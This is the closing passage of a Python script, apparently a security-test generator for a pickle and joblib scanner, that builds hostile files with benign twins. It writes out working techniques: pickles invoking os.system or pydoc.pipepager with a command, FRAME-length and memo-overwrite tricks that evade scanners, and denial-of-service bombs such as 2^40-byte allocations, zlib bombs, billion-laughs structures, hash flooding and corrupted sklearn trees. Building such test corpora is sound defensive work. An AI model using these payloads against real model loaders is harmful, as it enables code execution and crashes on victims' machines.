            Case("E2", "e2-invalid-utf8-after-p2", proto(2) + system(2, "posix") + b"X\x02\x00\x00\x00\xff\xfe" + STOP,
                 benign(2), "BINUNICODE with invalid UTF-8 after the payload", globals_=["posix.system"])]


def e4():
    """FRAME lies.  C pickle reads a whole frame before running it; the
    pure-Python unpickler reads what there is, and refuses an opcode that
    crosses the frame's end, which C runs."""
    body = system(4) + STOP
    lie = proto(4) + b"\x95" + struct.pack("<Q", len(body) + 4096) + body
    call = system(4)
    k = call.index(b"touch") - 2   # the frame ends inside the argument's SHORT_BINUNICODE
    cross = proto(4) + b"\x95" + struct.pack("<Q", k) + call + STOP
    return [Case("E4", "e4-frame-longer-than-file", lie, proto(4) + frame(benign_call(4) + STOP),
                 "FRAME claims 4 KiB more than the file: C pickle refuses, the pure-Python unpickler runs it",
                 consumer="pickle._Unpickler", globals_=["os.system"]),
            Case("E4", "e4-opcode-crosses-frame", cross, proto(4) + frame(benign_call(4)) + STOP,
                 "an opcode crossing the frame end: C pickle runs it, the pure-Python unpickler refuses",
                 globals_=["os.system"], variants=plain_only())]


def e5():
    dup = pstr("numpy", 4) + binput(1) + POP + pstr("ndarray", 4) + binput(2) + POP + \
        pstr("os", 4) + binput(1) + POP + pstr("system", 4) + binput(2) + POP
    return [Case("E5", "e5-duplicate-memo-p4", wrap(dup + binget(1) + binget(2) + STACK_GLOBAL + reduce_cmd(4), 4),
                 benign(4), "memo slots 1, 2 hold numpy, ndarray, then are overwritten with os, system",
                 globals_=["os.system"])]


# ---------------------------------------------------------------- F: native-loader attacks

# Bombs are legitimate data to brine (scan allowed, exit 0) unless a limit
# or the missing bytes end the read (exit 2); they harm CPython (dos).
BOMB = dict(rules=[], verdict="allowed", exit=[0, 2], loader="bounded", harm="dos")


def f1():
    """C pickle's memo is an array: it grows to 2^32 slots.  (The
    pure-Python memo is a dict: no compressed variants.)"""
    return [Case("F1", "f1-memo-index-bomb", wrap(NONE + b"r\xff\xff\xff\xff", 4), wrap(NONE + b"r\x01\x00\x00\x00", 4),
                 "LONG_BINPUT 0xFFFFFFFF: CPython's C memo grows to 2^32 slots (MemoryError)",
                 variants=plain_only(), **BOMB)]


def f2():
    """CPython allocates a declared BINBYTES8 before reading.  joblib's ZF
    reader unpickles from a BytesIO, whose read() returns what there is: no
    allocation, no harm, so no ZF variant."""
    return [Case("F2", "f2-binbytes8-2p40", proto(4) + b"\x8e" + struct.pack("<Q", 2 ** 40) + b"abc" + STOP,
                 proto(4) + b"\x8e" + struct.pack("<Q", 3) + b"abc" + STOP,
                 "BINBYTES8 declaring 2^40 bytes: CPython allocates before reading",
                 variants=("plain",) + COMPRESSORS[:-1], **dict(BOMB, exit=[2]))]


def f3():
    return [Case("F3", "f3-wrapper-shape-2p62", lambda comp: _f3(comp, 2 ** 62), lambda comp: _f3(comp, 2),
                 "NumpyArrayWrapper shape (2^62,): joblib allocates from the shape (MemoryError)",
                 consumer="joblib.load", variants=("none",), ext="joblib", **dict(BOMB, exit=[2]))]


def f5():
    """400 MB are enough: joblib needs over 1 GiB to read them as one bytes."""
    return [Case("F5", "f5-zlib-bomb-binbytes8", _f5(400_000_000), _f5(1000),
                 "zlib stream inflating to 400 MB, read as one BINBYTES8 (joblib needs over 1 GiB for it)",
                 consumer="joblib.load", variants=plain_only(), ext="z", **BOMB)]


def f6():
    """Billion laughs: a DAG of 60 levels, 2^60 logical items from 60 x 5
    bytes.  As a dict key CPython hashes it (2^60 steps, no cache); as a
    list, repr() of it never ends."""
    tuples = b"".join(binput(0) + binget(0) + TUPLE2 for _ in range(60))
    lists = b"".join(binput(0) + POP + EMPTY_LIST + MARK + binget(0) + binget(0) + APPENDS for _ in range(60))
    return [Case("F6", "f6-tuple-laughs-as-dict-key", wrap(EMPTY_DICT + EMPTY_TUPLE + tuples + NONE + SETITEM, 4),
                 wrap(EMPTY_DICT + EMPTY_TUPLE + tuples[:8 * 5] + NONE + SETITEM, 4),
                 "a 60-level tuple DAG used as a dict key: hashing it takes 2^60 steps", **BOMB),
            Case("F6", "f6-list-laughs-repr", wrap(EMPTY_LIST + lists, 4), wrap(EMPTY_LIST + lists[:10 * 10], 4),
                 "a 60-level list DAG (billion laughs); repr() of it never ends", then="repr", **BOMB)]


def f8():
    """CPython's tuple hash recurses without a depth check."""
    deep = EMPTY_TUPLE + TUPLE1 * 300_000
    return [Case("F8", "f8-deep-tuple-as-dict-key", wrap(EMPTY_DICT + deep + NONE + SETITEM, 4),
                 wrap(EMPTY_DICT + EMPTY_TUPLE + TUPLE1 * 100 + NONE + SETITEM, 4),
                 "a 300 000-deep tuple as a dict key: CPython's recursive hash overflows the C stack", **BOMB)]


def f12():
    """int keys that all hash to 0 in CPython (multiples of 2^61 - 1):
    quadratic insertion, about a minute for 30 000 keys."""
    m = 2 ** 61 - 1
    flood = MARK + b"".join(pint(m * (i + 1), 4) + NONE for i in range(30_000)) + SETITEMS
    calm = MARK + b"".join(pint(i + 1, 4) + NONE for i in range(30_000)) + SETITEMS
    return [Case("F12", "f12-int-hash-flood", wrap(EMPTY_DICT + flood, 4), wrap(EMPTY_DICT + calm, 4),
                 "30 000 dict keys that all hash to 0 in CPython: quadratic insertion", **BOMB)]


def f13():
    """Allowlisted classes, hostile numbers: sklearn 1.2.1's predict loops
    on a cycle and reads wild memory past node_count."""
    return [Case("F13", "f13-tree-%s" % tag, lambda comp, c=child: _f13(comp, c), lambda comp: _f13(comp, None),
                 "allowlisted DecisionTreeClassifier, " + what, then="predict",
                 rules=["state.invalid"], verdict="dangerous", exit=1, harm="dos",
                 # inspect may show it; convert must not write it out
                 loader={"inspect": "bounded", "convert": "refuse"}, offset=False,
                 names=["DecisionTreeClassifier", "left_child", "right_child", "tree_"])
            for tag, child, what in (("cycle", 0, "both children of the root point at the root: predict loops forever"),
                                     ("out-of-range", 2 ** 40,
                                      "children index 2^40, past node_count: predict reads wild memory"))]


TECHNIQUES = (a1, a2, a3, a4, a5, a6, a7, b1, b2, b3, b4, b5, b6, b7, b8,
              c1, c2, c3, c4, c5, c6, c7, c8, c9, c10, c11, d2, d3, d4, d5, d7,
              e1, e2, e4, e5, f1, f2, f3, f5, f6, f8, f12, f13)


def all_cases():
    """Every case; D1 (compressors) are the variants of all the others."""
    return [c for t in TECHNIQUES for c in t()]


# ---------------------------------------------------------------- builders


def _b7(comp, hostile):
    import pydoc
    from sklearn.preprocessing import FunctionTransformer
    ft = FunctionTransformer(func=pydoc.pipepager, kw_args={"cmd": CMD}) if hostile else FunctionTransformer()
    ft.fit([[0.0]])
    return pickle_or_joblib(ft, comp)


def pickle_or_joblib(obj, comp, p=4):
    """plain: pickle.dumps; zf: the pickle in joblib's legacy ZF container;
    other compressors: joblib.dump with that compressor."""
    import pickle
    if comp in ("plain", "zf"):
        raw = pickle.dumps(obj, protocol=p)
        return raw if comp == "plain" else compress(comp, raw)
    return joblib_bytes(obj, None if comp == "none" else comp)


def _c9_state(comp, hostile):
    m = copy.deepcopy(sk()["scaler"])
    m.note_ = evil() if hostile else CMD
    return pickle_or_joblib(m, comp, p=5)


def _c9_popped(comp, hostile, pop):
    import pickle
    model = pickle.dumps(sk()["scaler"], protocol=2)[2:]  # without its PROTO
    pre = system(2, "posix") if hostile else benign_call(2)
    raw = proto(2) + pre + (POP if pop else b"") + model
    return raw if comp == "plain" else compress(comp, raw)


def _jc(comp):
    return None if comp == "none" else comp


def _objarr(x):
    import numpy as np
    a = np.empty(2, dtype=object)
    a[0], a[1] = x, 1
    return a


def _npy(arr):
    import numpy as np
    b = io.BytesIO()
    np.lib.format.write_array(b, arr, allow_pickle=True)
    return b.getvalue()


def _npz(x):
    """A deterministic .npz: fixed zip timestamps (np.savez uses now)."""
    import numpy as np
    arr = _objarr(x) if x is not None else np.arange(4.0)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr(zipfile.ZipInfo("a.npy", date_time=(1980, 1, 1, 0, 0, 0)), _npy(arr))
    return out.getvalue()


def _d4(fname):
    """What joblib < 0.10 wrote: the main pickle holds an NDArrayWrapper
    whose array lives in a file beside it."""
    def build(comp):
        p = 2
        st = pdict([(pstr("filename", p), pstr(fname, p)), (pstr("subclass", p), pglobal("numpy", "ndarray", p)),
                    (pstr("allow_mmap", p), b"\x89")], p)
        raw = wrap(pglobal("joblib.numpy_pickle", "NDArrayWrapper", p) + EMPTY_TUPLE + NEWOBJ + st + BUILD, p)
        return raw if comp == "plain" else compress(comp, raw)
    return build


def _f3(comp, n):
    """A NumpyArrayWrapper for a uint8 array of shape (n,), as joblib 1.2
    writes it, followed by (too few) data bytes."""
    p = 4
    dt = pcall(pglobal("numpy", "dtype", p), [pstr("u1", p), b"\x89", NEWTRUE], p) + \
        MARK + pint(3, p) + pstr("|", p) + NONE + NONE + NONE + pint(-1, p) + pint(-1, p) + pint(0, p) + b"t" + BUILD
    st = pdict([(pstr("subclass", p), pglobal("numpy", "ndarray", p)), (pstr("shape", p), ptuple([pint(n, p)], p)),
                (pstr("order", p), pstr("C", p)), (pstr("dtype", p), dt), (pstr("allow_mmap", p), b"\x89"),
                (pstr("numpy_array_alignment_bytes", p), pint(16, p))], p)
    raw = wrap(pglobal("joblib.numpy_pickle", "NumpyArrayWrapper", p) + EMPTY_TUPLE + NEWOBJ + st + BUILD, p)
    # the wrapper's data follows the BUILD: padding byte, padding, bytes
    head = raw[:-1]
    pad = (-(len(head) + 1)) % 16
    return head + bytes([pad]) + b"\xff" * pad + b"\x07" * 2 + STOP


def _f5(n):
    """zlib(PROTO 4, BINBYTES8 n, n zero bytes, STOP), streamed."""
    c = zlib.compressobj(9)
    parts = [c.compress(proto(4) + b"\x8e" + struct.pack("<Q", n))]
    chunk = bytes(1 << 20)
    left = n
    while left:
        k = min(left, len(chunk))
        parts.append(c.compress(chunk[:k]))
        left -= k
    parts.append(c.compress(STOP))
    parts.append(c.flush())
    return b"".join(parts)


def _f13(comp, child):
    clf = copy.deepcopy(sk()["tree"])
    if child is not None:
        st = clf.tree_.__getstate__()
        nodes = st["nodes"].copy()
        nodes["left_child"][0] = child
        nodes["right_child"][0] = child
        st["nodes"] = nodes
        clf.tree_.__setstate__(st)
    return pickle_or_joblib(clf, comp)


# ---------------------------------------------------------------- writing

def variant_bytes(make, variant):
    """Bytes of one variant: callables build it, plain streams get the
    compressor wrapped around them."""
    if callable(make):
        return make(variant)
    return make if variant in ("plain", "none") else compress(variant, make)


def file_name(case, variant, role):
    base = case.name + (".twin" if role == "twin" else "")
    if variant in ("plain", "none"):
        return "%s.%s" % (base, case.ext)
    if case.ext == "joblib":
        return "%s.joblib.%s" % (base, EXT[variant])
    return "%s.%s.%s" % (base, case.ext, EXT[variant])


def entry(case, variant, role, path, twin_path):
    compressed = variant not in ("plain", "none")
    consumer = "joblib.load" if compressed else case.consumer
    e = {"file": path, "role": role, "case": case.name, "technique": case.tech,
         "techniques": sorted(set(case.techs + (["D1"] if compressed else []))),
         "variant": variant, "consumer": consumer, "then": case.then, "description": case.desc}
    if role == "attack":
        e.update(harm=case.harm, rules=case.rules, globals=case.globals, names=case.names,
                 verdict=case.verdict, exit=case.exit, cwd_files=case.cwd_files, twin=twin_path, offset=case.offset,
                 loader=case.loader if isinstance(case.loader, dict) else {"inspect": case.loader, "convert": case.loader})
    else:
        e.update(harm=None, rules=[], globals=[], names=[], verdict="allowed", exit=case.twin_exit,
                 loader="accept", cwd_files={})
    return e


def write(outdir, rel, data):
    path = os.path.join(outdir, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def generate(outdir):
    entries = []
    sidecars = {}
    for case in all_cases():
        d = case.tech + ("/" + case.subdir if case.subdir else "")
        for variant in case.variants:
            tw = "%s/%s" % (d, file_name(case, variant, "twin"))
            at = "%s/%s" % (d, file_name(case, variant, "attack"))
            write(outdir, tw, variant_bytes(case.twin, variant))
            write(outdir, at, variant_bytes(case.attack, variant))
            entries.append(entry(case, variant, "attack", at, tw))
            entries.append(entry(case, variant, "twin", tw, None))
        sidecars.update(case.sidecars)
    for rel, data in sorted(sidecars.items()):
        write(outdir, rel, data)
        entries.append({"file": rel, "role": "sidecar"})
    manifest = {"generator": "tests/security/make_attacks.py", "payload": CMD, "files": entries}
    with open(os.path.join(outdir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=True)
        f.write("\n")
    return manifest


def main(argv):
    if len(argv) != 2:
        sys.stderr.write("usage: %s OUTDIR\n" % argv[0])
        return 64
    m = generate(argv[1])
    attacks = [e for e in m["files"] if e["role"] == "attack"]
    techs = sorted({t for e in attacks for t in e["techniques"]}, key=lambda t: (t[0], int(t[1:])))
    print("make_attacks: %d files (%d attacks), %d techniques: %s" % (len(m["files"]), len(attacks), len(techs),
                                                                      " ".join(techs)))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
